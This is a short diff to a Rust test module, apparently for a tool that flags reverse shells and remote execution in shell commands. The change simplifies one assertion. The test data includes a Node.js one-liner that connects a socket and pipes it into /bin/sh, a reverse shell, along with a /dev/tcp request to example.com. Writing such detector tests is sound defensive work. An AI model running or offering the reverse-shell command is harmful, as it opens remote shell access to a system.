@@ -827,11 +827,7 @@ mod tests {
             r#"node -e 'const n=require("net"),c=require("child_process");const s=n.connect(443,h);const p=c.spawn("/bin/sh");s.pipe(p.stdin)'"#,
         ] {
             let f = crate::analyze(cmd, &ctx);
-            assert!(
-                f.remote_exec.iter().any(|r| r.kind == "reverse_shell"),
-                "{cmd}: {:?}",
-                f.remote_exec
-            );
+            assert!(f.has_reverse_shell(), "{cmd}: {:?}", f.remote_exec);
         }
         for cmd in [
             "exec 3<>/dev/tcp/example.com/80; printf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3; cat <&3",
